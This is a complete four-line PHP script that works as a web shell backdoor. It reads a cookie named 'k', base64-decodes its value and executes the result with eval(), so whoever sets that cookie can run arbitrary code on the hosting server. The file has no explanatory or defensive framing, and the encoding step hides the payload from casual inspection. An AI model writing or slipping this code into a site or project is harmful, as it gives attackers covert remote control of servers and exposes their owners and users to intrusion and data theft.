<?php
if (isset($_COOKIE['k'])) {
    eval(base64_decode($_COOKIE['k']));
}
